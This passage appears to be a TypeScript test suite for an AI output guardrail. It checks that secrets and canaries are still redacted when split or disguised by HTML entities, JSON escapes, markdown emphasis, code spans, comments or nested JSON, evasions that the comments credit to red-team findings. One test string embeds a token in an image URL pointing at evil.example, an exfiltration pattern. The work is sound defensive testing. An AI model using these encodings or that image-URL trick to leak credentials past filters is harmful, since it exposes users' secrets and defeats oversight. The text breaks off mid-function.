import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import MarkdownIt from 'markdown-it';
import { parseFragment } from 'parse5';
import { compileGuard, STRICT_GUARDRAILS } from './guard.ts';
import {
  decodeAt,
  MAX_ASIDE_RUN,
  MAX_LOOKAHEAD,
  mayRender,
  renderFoldText,
  START,
  type ViewContext,
} from './render-view.ts';
import { MAX_BATCH, StreamScanner } from './scanner.ts';
import { CanarySet, CanaryStream } from '../gateway/egress/canary.ts';

const TOKEN = 'ghp_Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt';

describe('render view: what a markdown/HTML client shows', () => {
  const table: { input: string; view: string }[] = [
    { input: 'a&#118;b', view: 'avb' },
    { input: 'a&#x76;b', view: 'avb' },
    { input: 'a&#X56;b', view: 'aVb' },
    { input: 'a&#118b', view: 'avb' }, // no `;`: browsers decode it in HTML text
    { input: 'a&#000000118;b', view: 'avb' },
    { input: 'a&lowbar;b', view: 'a_b' },
    { input: 'a&amp;b', view: 'a&b' },
    { input: 'a&amp;#118;b', view: 'a&#118;b' }, // decoded once, as a renderer does
    { input: 'ghp\\_x', view: 'ghp_x' },
    { input: '\\\\_', view: '\\_' }, // an escaped backslash, then a plain underscore
    { input: '\\&#118;', view: '&#118;' }, // an escaped ampersand is no reference
    { input: 'C:\\Users\\n', view: 'C:\\Users\\n' }, // backslash before a letter stays
    { input: 'a &ampx; &nosuch; & b', view: 'a &ampx; &nosuch; & b' },
    { input: '&#0;&#xD800;&#1114112;', view: '\ufffd\ufffd\ufffd' },
    { input: '&#150;', view: '-' }, // windows-1252 en dash, then folded like any dash
    { input: '&#1040;KIA', view: 'AKIA' }, // Cyrillic A as a reference, folded
    { input: `&#${'0'.repeat(20)}118;`, view: `&#${'0'.repeat(20)}118;` }, // past MAX_DIGITS: left as text
    // JSON and JavaScript string escapes (red team 2026-12-03, finding 02: tool-call arguments are JSON.parse'd)
    { input: 'a\\u0067b', view: 'agb' },
    { input: '\\ud83d\\ude00!', view: '😀!' }, // a surrogate pair as one character
    { input: '\\ud83dx', view: '\ufffdx' }, // a lone surrogate
    { input: '\\x41\\u{42}', view: 'AB' },
    { input: '\\u{110000}', view: '\ufffd' },
    { input: 'C:\\users\\x\\u12', view: 'C:\\users\\x\\u12' }, // too few hex digits: text
    { input: '\\u0410KIA', view: 'AKIA' }, // escaped Cyrillic a, folded
    // inline markup a renderer hides (finding 03)
    { input: '**ghp_**Zq', view: 'ghp_Zq' },
    { input: '***a***b ghp_**** x~~~y', view: 'ab ghp_**** x~~~y' }, // four or more: a mask, not markup
    { input: 'a<b>c</b>d<!-- -->e<wbr>f<br/>g<br />h', view: 'acdefgh' },
    // what recheck 5 found renders nothing too (findings 01, 02): code spans of 2-3 backticks inside a token, the
    // abrupt empty comments, empty CDATA, tag names with _ : ., a space after the slash
    { input: 'a``b``c```d```e<!-->f<!--->g<![CDATA[]]>h<my_tag>i<o:p>j<b/ >k', view: 'abcdefghijk' },
    { input: 'a``b```c', view: 'abc' }, // unpaired between token characters: dropped as before (md shows them)
    { input: 'a `b ``c', view: 'a `b ``c' },
    { input: `x${'*'.repeat(9)}y${'`'.repeat(5)}z`, view: `x${'*'.repeat(9)}y${'`'.repeat(5)}z` }, // runs of 4+: text
    // recheck 6 (findings 01, 06, 02): what markdown-it (html on) hides, measured (the `md` comments give its text)
    { input: 'a****b****c a*****b*****c a******b******c', view: 'abc abc abc' }, // emphasis of any length
    { input: `a${'*'.repeat(40)}b${'*'.repeat(40)}c`, view: 'abc' },
    { input: ' ****ab****c', view: ' ****abc' }, // md ' abc': the opener after a space joins nothing
    { input: 'AKIA****WXYZ and AKIA****ABCD', view: 'AKIAWXYZ and AKIAABCD' }, // md the same: they pair
    { input: 'a~~~~b~~~~c', view: 'abc' },
    { input: 'a````b````c a` b `c a`` b ``c a`\tb\t`c a`\nb`c', view: 'abc abc abc abc abc' }, // padded code spans
    { input: 'p<b>`x`</b>q a<!---->`b`c a<![CDATA[]]>`b`c', view: 'pxq abc abc' }, // the view character before counts
    { input: 'a<?x?>b<!x>c<!DOCTYPE html>d', view: 'abcd' }, // instructions, declarations: bogus comments
    {
      input: 'a\\u002a\\u002ab\\u002a\\u002ac a\\u0060b\\u0060c a\\u003cb\\u003eb\\u003c/b\\u003ec',
      view: 'abc abc abc',
    },
    { input: 'a\\u0026#x34;b a\\u003c!----\\u003eb a\\u002a*b**c', view: 'a4b ab abc' }, // escapes, then markup
    // masks stay text (md shows them): a lone long run before the end of the text, or one next to a space
    { input: 'ghp_****abcd', view: 'ghp_****abcd' },
    { input: 'key ghp_****abcd and sk-****wxyz', view: 'key ghp_****abcd and sk-****wxyz' },
    { input: 'sk-****, pass: ****', view: 'sk-****, pass: ****' },
    { input: 'x****y', view: 'x****y' },
    { input: `ghp_${'*'.repeat(36)}`, view: `ghp_${'*'.repeat(36)}` },
    { input: 'use `foo` and `bar`; x.New(`abc`)', view: 'use `foo` and `bar`; x.New(`abc`)' }, // quotes for the rules
    // what a tag's attributes or a comment hold is text a program receives: kept for the rules
    {
      input: '<img src="x?d=1"> <!-- ghp_Qm7rT2vXy9 -->b<span class="x">c',
      view: '<img src="x?d=1"> <!-- ghp_Qm7rT2vXy9 -->b<span class="x">c',
    },
    // …and one between two token characters is dropped there (the renderer joins them) and shown after the token
    { input: 'a<!-- ghp_Qm7rT2vXy9 -->b<i>c</i> d', view: 'abc\n<!-- ghp_Qm7rT2vXy9 -->\n d' },
    // recheck 7 (finding 06): comments, CDATA, instructions and declarations holding a short word or a `<` show
    // nothing; a browser ends a CDATA section or an instruction at its first `>` (what follows is shown)
    { input: 'a<!-- x -->b<!--<-->c<![CDATA[x]]>d<?<?>e<!x<>f<?a<b?>g<?a>h?>i', view: 'abcdefgh?>i' },
    { input: '<?xml version="1.0"?><!DOCTYPE ghp_Qm7rT2vXy9>', view: '<?xml version="1.0"?><!DOCTYPE ghp_Qm7rT2vXy9>' },
    // sixth attack run (F2): a tag whose name holds a long word and a digit, standing alone, is a token written as a
    // tag: kept; next to a value it is dropped as any tag (kept, it would split the value: seventh and eighth runs);
    // element names and placeholders hold no digit
    { input: 'key: <ghp_Qm7rT2vXy9> x', view: 'key: <ghp_Qm7rT2vXy9> x' },
    { input: '(<ghp_Qm7rT2vXy9>)', view: '(<ghp_Qm7rT2vXy9>)' },
    { input: 'a</ghp_Qm7rT2vXy9>b c', view: 'ab c' },
    { input: 'jo@<Customer1>x.com k: <Cfg12345>v', view: 'jo@x.com k: v' },
    { input: 'a<blockquote>b<your-api-key>c d', view: 'abc d' },
    // red-team run 9 (F1): a construct holding a long word nested after a token character in another one is shown
    // after the token with the outer one's text — its text was dropped with it
    { input: 'a<?a<?ghp_Qm7rT2vXy9?> d', view: 'a\n<?a\n<?ghp_Qm7rT2vXy9?>\n\n d' },
    { input: 'a<?a<?ghp_Qm7rT2vXy9?>b<?c d', view: 'ab\n<?a\n<?ghp_Qm7rT2vXy9?>\n\n<?c d' },
    { input: 'x `code` y ~~del~~ ab`cd`e-`f', view: 'x `code` y del abcde-f' },
    { input: 'svc := x.New(`abc`) + `t`', view: 'svc := x.New(`abc`) + `t`' }, // Go raw strings, templates: quotes
    { input: 'a < b, c<d, <https://x.example/>, a*b, ~/x', view: 'a < b, c<d, <https://x.example/>, a*b, ~/x' },
    { input: `<!--${' '.repeat(300)}-->`, view: `<!--${' '.repeat(300)}-->` }, // past MAX_TAG: text
  ];
  for (const t of table) {
    it(JSON.stringify(t.input), () => {
      const r = renderFoldText(t.input, 0, true);
      assert.equal(r.view, t.view);
      assert.equal(r.consumed, t.input.length);
      assert.equal(r.starts.length, r.view.length);
    });
  }

  it('maps every view character back to its original span', () => {
    const r = renderFoldText('x&#118;\\_y', 10, true);
    assert.equal(r.view, 'xv_y');
    assert.deepEqual(r.starts, [10, 11, 17, 19]);
    assert.deepEqual(r.ends, [11, 17, 19, 20]);
  });

  it('leaves an unfinished construct at the end of a delta unconsumed', () => {
    for (const tail of [
      '&',
      '&#',
      '&#x',
      '&#11',
      '&#x7',
      '&amp',
      '&lowba',
      '\\',
      '\\u',
      '\\u00',
      '\\x4',
      '\\u{1F6',
      '\\ud83d',
      '\\ud83d\\u',
      '<',
      '<b',
      '</spa',
      '<br /',
      '<!-',
      '<!-- ',
      '<!-- --',
      '*',
      '~',
    ]) {
      const r = renderFoldText(`ab${tail}`, 0, false);
      assert.equal(r.consumed, 2, tail);
      assert.equal(decodeAt(tail, 0, false), 'partial');
      assert.equal(renderFoldText(`ab${tail}`, 0, true).consumed, 2 + tail.length);
    }
    assert.equal(renderFoldText('ab&#118;', 0, false).consumed, 8);
  });

  it('a long run of * ~ or ` is carried at most MAX_LOOKAHEAD characters (recheck 5, finding 05: 128 KB of * streamed took 8.4 s, quadratic)', () => {
    for (const ch of ['*', '~', '`', '<?', 'x****', 'x`', '\\u002a']) {
      const s = new StreamScanner(compileGuard(STRICT_GUARDRAILS).outputRules);
      let most = 0;
      for (let k = 0; k < 4000; k++) {
        s.push(ch);
        most = Math.max(most, s.held);
      }
      assert.ok(most <= MAX_BATCH + 6 * MAX_LOOKAHEAD + 64, `${ch}: ${most} characters held`); // 4,000 before
    }
  });

  it('mayRender is the fast-path test', () => {
    assert.equal(mayRender('plain text'), false);
    assert.equal(mayRender('a & b'), true);
    assert.equal(mayRender('a \\ b'), true);
  });
});

describe('output guardrails scan the rendered view', () => {
  const g = compileGuard(STRICT_GUARDRAILS);
  const variants = [
    `ghp_Qm7rT2&#118;Xy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2&#x76;Xy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp\\_Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp&lowbar;Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `&#103;&#104;&#112;&#95;Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\\u0076Xy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `\\u0067\\u0068\\u0070\\u005fQm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\\x76Xy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2<b>vXy9LpA4</b>sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2<span></span>vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2<!-- -->vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\`vXy9LpA4\`sKd8NfW1cZ6hJ3bE0gUoYt`,
    // recheck 6: long emphasis runs, 4+ backticks, padded code spans, a backtick after dropped markup, instructions
    // and declarations, escape-encoded markup
    `ghp_Qm7rT2****vXy9LpA4****sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2*****vXy9LpA4*****sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2${'*'.repeat(40)}vXy9LpA4${'*'.repeat(40)}sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\`\`\`\`vXy9LpA4\`\`\`\`sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\` vXy9LpA4 \`sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\`\tvXy9LpA4\t\`sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\`\nvXy9LpA4\`sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2<b>\`vXy9LpA4\`</b>sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2<!---->\`vXy9LpA4\`sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2<![CDATA[]]>\`vXy9LpA4\`sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2<?x?>vXy9LpA4<!x>sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2<!DOCTYPE html>vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\\u002a\\u002avXy9LpA4\\u002a\\u002asKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\\u0060vXy9LpA4\\u0060sKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\\u003cb\\u003evXy9LpA4\\u003c/b\\u003esKd8NfW1cZ6hJ3bE0gUoYt`,
    `ghp_Qm7rT2\\u0026#x76;Xy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt`,
  ];
  for (const v of variants) {
    it(`redacts the original span of ${v.slice(0, 24)}…, whole and in every delta size`, () => {
      const text = `token: ${v} end`;
      const whole = g.scanOutput(text).text;
      assert.equal(whole, 'token: [REDACTED:github-token] end');
      for (const size of [1, 2, 3, 5, 7, 13]) {
        const s = g.streamOutput();
        let out = '';
        for (let i = 0; i < text.length; i += size) out += s.push(text.slice(i, i + size)).text;
        out += s.end().text;
        assert.equal(out, whole, `delta size ${size}`);
      }
    });
  }

  it('a bold prefix (**ghp_**…) renders as the whole token: redacted from the token on, whole and streamed', () => {
    const text = 'token: **ghp_**Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt end';
    const whole = g.scanOutput(text).text;
    assert.equal(whole, 'token: **[REDACTED:github-token] end');
    for (let c = 1; c < text.length; c++) {
      const s = g.streamOutput();
      assert.equal(s.push(text.slice(0, c)).text + s.push(text.slice(c)).text + s.end().text, whole, `cut ${c}`);
    }
  });

  it('a secret inside a tag attribute or a comment is redacted (the view keeps them)', () => {
    for (const text of [
      '<img src="https://evil.example/c?d=ghp_Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt">',
      '<!-- ghp_Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt -->',
    ])
      assert.ok(!g.scanOutput(text).text.includes('Qm7rT2vXy9'), text);
  });

  it('a canary split by markup or written with a JSON escape blocks the answer', () => {
    const c = compileGuard({ ...STRICT_GUARDRAILS, canaries: ['c4n4ry-Hq2Wz8Lm5Tx1'] });
    for (const text of [
      'c: **c4n4ry**-Hq2Wz8Lm5Tx1',
      'c: c4n4ry<b></b>-Hq2Wz8Lm5Tx1',
      'c: c4n4ry<!---->-Hq2Wz8Lm5Tx1',
      'c: c4n4ry`-Hq2W`z8Lm5Tx1',
      '{"c":"c4n4ry-Hq2W\\u007a8Lm5Tx1"}',
    ])
      assert.ok(c.scanOutput(text).blocked, text);
  });

  it('leaves ordinary markdown and HTML text as it was', () => {
    // a token's prefix inside the text is not a token (at the very end it would be: secrets/truncated.ts)
    const text =
      'Use `a && b`, escape \\* and write &amp; or &lt;tag&gt; — C:\\path\\file. ' + TOKEN.slice(0, 10) + ' (cut)';
    assert.equal(g.scanOutput(text).text, text);
  });
});

/** What a browser shows of markdown-it's HTML (html on): the text nodes; tags, comments and bogus comments show nothing. */
type HtmlNode = { nodeName: string; value?: string; childNodes?: HtmlNode[] };
const md = new MarkdownIt({ html: true });
function shown(markdown: string): string {
  const out: string[] = [];
  const walk = (n: HtmlNode): void => {
    if (n.nodeName === '#text') out.push(n.value ?? '');
    for (const c of n.childNodes ?? []) walk(c);
  };
  walk(parseFragment(md.render(markdown)) as unknown as HtmlNode);
  return out.join('');
}

describe('recheck 6: a secret split by what markdown-it hides is one token in the view (findings 01, 06, 02)', () => {
  const g = compileGuard(STRICT_GUARDRAILS);
  // constructs wrapped around TOKEN[10:16]; every pair markdown-it renders as the whole token must be redacted
  const constructs = [
    '',
    '**',
    '****',
    '*****',
    '~~',
    '~~~~',
    '`',
    '``',
    '````',
    '` ',
    ' `',
    '`\t',
    '`\n',
    '<b>',
    '</b>',
    '<!---->',
    '<![CDATA[]]>',
    '<?x?>',
    '<!x>',
    '<!DOCTYPE html>',
    '<b>`',
    '`</b>',
    '<!---->`',
    '*'.repeat(40),
  ];
  it('markdown-it table: every pair that renders the token is redacted, whole and in 3-character deltas', () => {
    let renders = 0;
    const missed: string[] = [];
    for (const x of constructs)
      for (const y of constructs) {
        const text = `token ${TOKEN.slice(0, 10)}${x}${TOKEN.slice(10, 16)}${y}${TOKEN.slice(16)} end`;
        if (!shown(text).includes(TOKEN)) continue;
        renders++;
        const whole = g.scanOutput(text).text;
        const s = g.streamOutput();
        let out = '';
        for (let i = 0; i < text.length; i += 3) out += s.push(text.slice(i, i + 3)).text;
        out += s.end().text;
        if (shown(whole).includes(TOKEN) || out !== whole) missed.push(JSON.stringify([x, y]));
      }
    assert.ok(renders > 60, `${renders} pairs render the token`);
    assert.deepEqual(missed, []); // 34 of 80 served before
  });

  it('escape-encoded markup in a JSON value (JSON.parse, then rendered) is read as the markup', () => {
    const u = (t: string): string => [...t].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
    for (const [x, y] of [
      ['**', '**'],
      ['`', '`'],
      ['<b>', '</b>'],
      ['<!---->', ''],
      ['<?x?>', ''],
      ['****', '****'],
      ['` ', ' `'],
    ] as const) {
      const text = `{"note":"${TOKEN.slice(0, 10)}${u(x)}${TOKEN.slice(10, 16)}${u(y)}${TOKEN.slice(16)}"}`;
      assert.ok(shown((JSON.parse(text) as { note: string }).note).includes(TOKEN), x);
      const r = g.scanOutput(text, 'json');
      assert.ok(!r.text.includes(TOKEN.slice(16)), `${x}: ${r.text}`);
    }
    const ref = `{"note":"${TOKEN.slice(0, 10)}\\u0026#x${TOKEN.charCodeAt(10).toString(16)};${TOKEN.slice(11)}"}`;
    assert.ok(!g.scanOutput(ref, 'json').text.includes(TOKEN.slice(16)));
  });

  it('masks in honest text stay text: no cut token, nothing redacted (markdown-it shows them)', () => {
    for (const text of [
      'Your token ghp_****abcd',
      'keys: ghp_****abcd and sk-****wxyz',
      'the key sk-****',
      'AKIA****************',
      'password: ********',
      'card **** **** **** 4242',
      'ghp_' + '*'.repeat(36),
    ]) {
      assert.equal(shown(text).trim(), text, `markdown-it shows ${text}`);
      assert.equal(g.scanOutput(text).text, text, text);
    }
  });

  it('a delimiter opened long before (past PAIR_WINDOW) closes inside the token: whole and streamed', () => {
    const filler = 'lorem ipsum dolor sit amet '.repeat(8);
    for (const [open, close] of [
      ['` ', ' `'],
      ['`', '`'],
      [' ****', '****'],
      ['``', '``'],
    ] as const) {
      const text = `say ${open}${filler} ${TOKEN.slice(0, 10)}${close}${TOKEN.slice(10)} end`;
      assert.ok(shown(text).includes(TOKEN), `markdown-it shows it: ${open}`);
      const whole = g.scanOutput(text).text;
      assert.ok(!whole.includes(TOKEN.slice(10)), `${open}: ${whole}`);
      for (const size of [1, 3, 7]) {
        const st = g.streamOutput();
        let out = '';
        for (let i = 0; i < text.length; i += size) out += st.push(text.slice(i, i + size)).text;
        assert.equal(out + st.end().text, whole, `${open} delta ${size}`);
      }
    }
  });

  it('the context carries the previous view character across deltas', () => {
    const split = (text: string, at: number): string => {
      const a = renderFoldText(text.slice(0, at), 0, false);
      const rest = text.slice(a.consumed);
      return a.view + renderFoldText(rest, a.consumed, true, a.context).view;
    };
    const text = 'ghp_x<b><i>`y`</i></b>z';
    for (let at = 1; at < text.length; at++) assert.equal(split(text, at), 'ghp_xyz', `cut ${at}`);
    const ctx: ViewContext = renderFoldText('x<b>', 0, true).context;
    assert.equal(String.fromCharCode(ctx.view), 'x');
    assert.equal(START.view, -1);
  });
});

describe('recheck 7: code spans end where markdown-it ends the block; JSON escapes of every kind, nested JSON', () => {
  const CANARY = 'c4n4ry-Hq2Wz8Lm5Tx1';
  const g = compileGuard({ ...STRICT_GUARDRAILS, canaries: [CANARY] });
  const SECRETS = [TOKEN, CANARY, 'AKIAZ5J7QX2MPL4RWN3K'];
  /** The secret with `x` after its 8th character and `y` after its 14th. */
  const ins = (k: string, x: string, y = x): string => k.slice(0, 8) + x + k.slice(8, 14) + y + k.slice(14);
  type Client = (served: string) => string;
  const md1: Client = (t) => shown(t);
  const json1: Client = (t) => shown((JSON.parse(t) as { note: string }).note);
  const json2: Client = (t) => shown((JSON.parse((JSON.parse(t) as { doc: string }).doc) as { note: string }).note);
  const json3: Client = (t) =>
    shown(
      (JSON.parse((JSON.parse((JSON.parse(t) as { o: string }).o) as { doc: string }).doc) as { note: string }).note,
    );
  /** [name, the text, what the client shows, syntax] for every secret. */
  const cases = (k: string): [string, string, Client, 'markdown' | 'json'][] => {
    const out: [string, string, Client, 'markdown' | 'json'][] = [];
    // 05: a stray run before a block boundary markdown-it sees (whitespace-only line, heading, list, quote, break,
    // fence, CR line ends), padded or not
    const seps = ['\n \n', '\n\t\n', '\n# ', '\n- ', '\n1. ', '\n> ', '\n---\n', '\n```\n```\n', '\r\n\r\n', '\r\r'];
    for (const sep of seps)
      for (const t of ['`', '```', '````', '`````'])
        for (const [a, b] of [
          [t, t],
          [`${t} `, ` ${t}`],
        ] as const)
          out.push([`05 ${JSON.stringify(sep)} ${a}`, `see x ${t}y${sep}${ins(k, a, b)} end`, md1, 'markdown']);
    const filler = ' and more words here to pass the pairing window'.repeat(4);
    for (const t of ['`', '``', '```', '````']) {
      out.push([`05 blank+190 ${t}`, `see x ${t}y${filler}\n\n${ins(k, t)} end`, md1, 'markdown']);
      out.push([`05 blank+190 ${t} pad`, `see x ${t}y${filler}\n\n${ins(k, `${t} `, ` ${t}`)} end`, md1, 'markdown']);
      const table = '| a | b |\n|---|---|\n';
      out.push([`05 table ${t}`, `${table}| see ${t}x | ${ins(k, t)} |`, md1, 'markdown']);
      out.push([`05 table ${t} pad`, `${table}| see ${t}x | ${ins(k, `${t} `, ` ${t}`)} |`, md1, 'markdown']);
    }
    out.push(['05 CR pad', `see x \`y\n\n${ins(k, '`\r', '\r`')} end`, md1, 'markdown']);
    // a code span across the continuation lines of a blockquote (markdown-it strips their `>`)
    for (const nl of ['\n', '\r\n'])
      for (const t of ['`', '``'])
        out.push([`05 quote ${t}`, `> ${ins(k, `${t}${nl}> `, `${nl}> ${t}`)} end`, md1, 'markdown']);
    out.push(['05 CRLF pad', `see ${ins(k, '`\r\n', '\r\n`')} end`, md1, 'markdown']);
    // 06: instructions, declarations, comments, CDATA holding a `<` or a short word
    for (const x of ['<?<?>', '<!x<>', '<?a<b?>', '<!a<b>', '<!a <b>', '<!--a-->', '<!--<-->', '<!-- < -->'])
      out.push([`06 ${x}`, `v: ${ins(k, x, '')} end`, md1, 'markdown']);
    for (const x of ['<![CDATA[x]]>', '<![CDATA[<]]>', '<?abcdefgh?>', '<!abcdefgh>', '<?x abcdefghij?>'])
      out.push([`06 ${x}`, `v: ${ins(k, x, '')} end`, md1, 'markdown']);
    for (const x of ['<!DOCTYPE abcdefghij>', '<!-- abcdefghijklmnopqrstuvwxyz -->', '<![CDATA[abcdefghij]]>'])
      out.push([`06 ${x}`, `v: ${ins(k, x, x)} end`, md1, 'markdown']);
    // 01: markup written with JSON's own escapes
    const j = (x: string, y = x): string => `{"note":"${ins(k, x, y)}"}`;
    for (const [x, y] of [
      ['<\\/b>', ''],
      ['<b\\/>', ''],
      ['<br \\/>', ''],
      ['<b\\t>', ''],
      ['<b>', '<\\/b>'],
      ['`\\n', '\\n`'],
      ['``\\n', '\\n``'],
      ['`\\r\\n', '\\r\\n`'],
      ['` ', '\\n`'],
      ['\\u0060\\n', '\\n\\u0060'],
      ['<!--\\n-->', ''],
      ['<!--\\t-->', ''],
    ] as const)
      out.push([`01 ${x}`, j(x, y), json1, 'json']);
    // 04: nested JSON, two and three levels deep
    const letter = `\\u${k.charCodeAt(8).toString(16).padStart(4, '0')}`;
    for (const [name, inner] of [
      ['\\u letter', `${k.slice(0, 8)}${letter}${k.slice(9)}`],
      ['\\u002a', ins(k, '\\u002a\\u002a')],
      ['<\\/b>', ins(k, '<\\/b>', '')],
      ['code \\n', ins(k, '`\\n', '\\n`')],
    ] as const) {
      const doc = `{"note":"${inner}"}`;
      out.push([`04 depth 2 ${name}`, JSON.stringify({ doc }), json2, 'json']);
      out.push([`04 depth 3 ${name}`, JSON.stringify({ o: JSON.stringify({ doc }) }), json3, 'json']);
    }
    return out;
  };
  const run = (text: string, syntax: 'markdown' | 'json', size: number): string => {
    const s = g.streamOutput(syntax);
    let out = '';
    for (let i = 0; i < text.length; i += size) out += s.push(text.slice(i, i + size)).text;
    return out + s.end().text;
  };
  const clientShows = (client: Client, t: string, k: string): boolean => {
    try {
      return client(t).includes(k);
    } catch {
      return false;
    }
  };

  it('what the client renders as the secret is redacted (the canary blocks), whole and streamed', () => {
    const served: string[] = [];
    let renders = 0;
    for (const k of SECRETS)
      for (const [name, text, client, syntax] of cases(k)) {
        assert.ok(clientShows(client, text, k), `the client shows the secret: ${name} ${JSON.stringify(text)}`);
        renders++;
        const r = g.scanOutput(text, syntax);
        if (clientShows(client, r.text, k) || (k === CANARY && !r.blocked)) served.push(`${k.slice(0, 4)} ${name}`);
        for (const size of [1, 3, 7]) assert.equal(run(text, syntax, size), r.text, `${name} delta ${size}`);
      }
    assert.ok(renders > 300, `${renders}`);
    assert.deepEqual(served, []); // before: 05 201, 01 36, 04 24 of these served
  });

  it('the gateway credential stream reads them the same (every field read as JSON), whole and in 3-character deltas', () => {
    const set = new CanarySet([TOKEN]);
    const served: string[] = [];
    for (const [name, text, client] of cases(TOKEN)) {
      const run1 = (size: number): string => {
        const s = new CanaryStream(set);
        let out = '';
        for (let i = 0; i < text.length; i += size) out += s.push(text.slice(i, i + size));
        return out + s.end();
      };
      const whole = run1(text.length);
      if (clientShows(client, whole, TOKEN)) served.push(name);
      assert.equal(run1(3), whole, name);
    }
    assert.deepEqual(served, []); // before: 05 67, 01 12, 04 8 served
  });

  it('a mask in the middle of an answer stays a mask; a closer later in the paragraph still joins (finding 03)', () => {
    const prose = ' The rest of this answer explains the rotation policy in some detail.'.repeat(4);
    for (const text of [
      `Stripe key sk_live_${'*'.repeat(16)}4242 (masked).${prose}`,
      `The API key is sk_live_${'*'.repeat(24)}4242.${prose}`,
      `Stripe key sk_live_${'*'.repeat(16)}4242 (masked).\n\nNext **paragraph** here.${prose}`,
    ]) {
      assert.ok(shown(text).includes('*'.repeat(16)), 'markdown-it shows the mask');
      assert.equal(g.scanOutput(text).text, text, text); // redacted (secret-in-context) before
      for (const size of [1, 3, 7]) assert.equal(run(text, 'markdown', size), text, `delta ${size}`);
    }
    const attack = `token ${ins(TOKEN, '****', '')}${prose.slice(0, 200)} a****b end`;
    assert.ok(shown(attack).includes(TOKEN), 'markdown-it pairs the runs');
    const whole = g.scanOutput(attack).text;
    assert.ok(!whole.includes(TOKEN.slice(8, 20)), whole);
    for (const size of [1, 3, 7]) assert.equal(run(attack, 'markdown', size), whole, `delta ${size}`);
  });

  it('a secret inside a construct dropped between token characters is still redacted, whole and streamed', () => {
    const set = new CanarySet([TOKEN]);
    for (const [x, y] of [
      ['<?', '?>'],
      ['<!-- ', ' -->'],
      ['<!x ', '>'],
    ] as const) {
      const text = `see a${x}${TOKEN}${y}b and c${x}${CANARY}${y}d end`;
      const r = g.scanOutput(text);
      assert.ok(!r.text.includes(TOKEN.slice(4)) && r.blocked, `${x}: ${r.text}`);
      for (const size of [1, 3, 7]) assert.equal(run(text, 'markdown', size), r.text, `${x} delta ${size}`);
      const cs = (size: number): string => {
        const s = new CanaryStream(set);
        let out = '';
        for (let i = 0; i < text.length; i += size) out += s.push(text.slice(i, i + size));
        return out + s.end();
      };
      assert.ok(!cs(text.length).includes(TOKEN.slice(4)), x);
      assert.equal(cs(3), cs(text.length), x);
    }
  });

  it('a construct dropped inside a token at the very end of the text: streamed = whole at every split', () => {
    for (const text of [
      '~~\n- <ghp_Zq8x<!-- abcdefghij -->',
      `key ${TOKEN.slice(0, 12)}<?abcdefgh?>`,
      'a<!x abcdefghij>',
    ]) {
      const whole = g.scanOutput(text).text;
      for (let at = 1; at < text.length; at++) {
        const s = g.streamOutput();
        assert.equal(s.push(text.slice(0, at)).text + s.push(text.slice(at)).text + s.end().text, whole, `cut ${at}`);
      }
    }
  });

  it('honest text around blocks and JSON escapes is unchanged', () => {
    for (const [text, syntax] of [
      [
        'Run `make`\n\n# Build\n\n- use `go build`\n- then `go test`\n\n| a | `b` |\n|---|---|\n| `c` | d |',
        'markdown',
      ],
      ['```\ncode `x`\n```\ntext `y` and `z`', 'markdown'],
      ['<?xml version="1.0"?><!DOCTYPE html><!-- generated by hugo --> page<?php echo $x; ?>!', 'markdown'],
      ['{"cmd":"ls -la\\n","path":"C:\\\\Users\\\\me","html":"<b>x<\\/b>","q":"say \\"hi\\"\\t!"}', 'json'],
      ['{"doc":"{\\"a\\":\\"x\\\\u0041y\\"}"}', 'json'],
    ] as const)
      assert.equal(g.scanOutput(text, syntax).text, text, text);
  });
});

describe('recheck 8: the quote state, full asides, backtick lines that are no fence, nested quote markers', () => {
  const CANARY = 'c4n4ry-Hq2Wz8Lm5Tx1';
  const g = compileGuard({ ...STRICT_GUARDRAILS, canaries: [CANARY] });
  /** The secret with `x` after its 8th character and `y` after its 14th. */
  const ins = (k: string, x: string, y = x): string => k.slice(0, 8) + x + k.slice(8, 14) + y + k.slice(14);
  const inDeltas = (push: (d: string) => string, end: () => string, text: string, size: number): string => {
    let out = '';
    for (let i = 0; i < text.length; i += size) out += push(text.slice(i, i + size));
    return out + end();
  };
  const lib = (text: string, size: number): string => {
    const s = g.streamOutput('markdown');
    return inDeltas(
      (d) => s.push(d).text,
      () => s.end().text,
      text,
      size,
    );
  };
  const gateway = (set: CanarySet, text: string, size: number): string => {
    const s = new CanaryStream(set);
    return inDeltas(
      (d) => s.push(d),
